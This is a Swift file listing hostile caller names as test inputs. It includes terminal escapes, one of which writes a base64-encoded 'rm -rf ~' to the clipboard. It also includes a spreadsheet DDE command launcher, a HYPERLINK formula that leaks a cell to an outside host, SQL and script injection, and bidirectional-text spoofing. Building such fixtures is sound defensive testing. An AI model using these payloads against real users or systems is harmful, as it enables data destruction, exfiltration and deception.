/// Whoever calls chooses the text. These are what a program must not fall for.
enum HostileNames {
  static let all = [
    // Terminals: clear the screen, change the title and the colours, leave the line, start the device's own answers.
    "\u{1B}[2J\u{1B}[H\u{1B}[31mYOUR BANK",
    "\u{1B}]0;owned\u{07}\u{1B}]52;c;cm0gLXJmIH4=\u{07}Jane",
    "\u{9B}31mC1 control\u{85}",
    "Line\r\nBreak\tTab\u{8}\u{8}\u{8}",
    "Nul\u{0}l",
    // Reading order: turned round, and never turned back.
    "\u{202E}gpj.exe 0215 555",
    "\u{2066}\u{2067}isolated\u{200F}",
    // Spreadsheets.
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Call back\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    // Others' quotes.
    "'; DROP TABLE calls; --",
    "\"quoted\", with, commas",
    "<script>alert(1)</script>",
    "|pipe|`code`|",
    // Too much of something.
    String(repeating: "Extremely Long Name ", count: 16),
    "Z\u{351}\u{36B}\u{343}\u{36A}\u{302}\u{36B}\u{33D}\u{34F}\u{334}\u{319}\u{324}algo",
    "\u{200B}\u{200D}\u{FEFF}",
    "🏴󠁧󠁢󠁳󠁣󠁴󠁿👩🏽‍🚀🏳️‍🌈",
  ]
}
